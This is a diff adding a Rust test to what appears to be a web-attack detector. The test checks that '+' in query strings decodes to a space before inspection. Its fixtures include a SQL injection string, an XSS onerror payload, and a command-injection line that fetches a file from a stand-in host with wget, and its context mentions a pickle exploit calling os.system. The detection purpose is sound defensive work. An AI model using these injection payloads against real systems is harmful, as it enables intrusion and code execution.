@@ -88,6 +88,47 @@ fn json_bodies_keys_and_base64_are_inspected() {
 }
 
 #[test]
+fn plus_is_read_as_a_space_outside_url_paths() {
+    // Query strings and form bodies carried in messages and logs: `parse_qs` reads `+` as a
+    // space, and so does every detector.
+    for (body, rule) in [
+        (
+            "id=-1+union+select+password+from+users",
+            "sqli.union_select",
+        ),
+        ("<img+src=x+onerror=alert(1)>", "xss.event_handler"),
+        (
+            "x;wget+http://evil.example/x+-O+/tmp/x",
+            "cmdi.command_chain",
+        ),
+    ] {
+        let found = inspect(&sqs(&[body]));
+        assert_eq!(
+            found.first().map(|f| &*f.rule),
+            Some(rule),
+            "{body}: {found:?}"
+        );
+        assert!(
+            found[0].transforms.contains(&"percent_decode"),
+            "{body}: {found:?}"
+        );
+    }
+    // Not a space: offsets, phone numbers, addresses and base64 stay clean.
+    assert!(inspect(&sqs(&[
+        "2024-05-17T13:45:00+02:00",
+        "+1-555-0100",
+        "q=select+a+size&order=price",
+        "a+b@example.com",
+        "AbC+dEf/GhI+jKl=",
+    ]))
+    .is_empty());
+    // In a URL path `+` is a `+` (CRS 942101-11 must not fire there).
+    let mut e = http(json!({}), None);
+    e["rawPath"] = json!("/post/foo/24+union+all+select+1,2,3+from+aa/bar");
+    assert!(inspect(&e).is_empty(), "{:?}", inspect(&e));
+}
+
+#[test]
 fn base64_pickles_are_read_for_their_imports() {
     // `base64.b64encode(pickle.dumps(Exploit()))` with protocols 2 and 4 (Python 3.8+'s
     // default); the object's `__reduce__` returns `(os.system, ('id',))`.
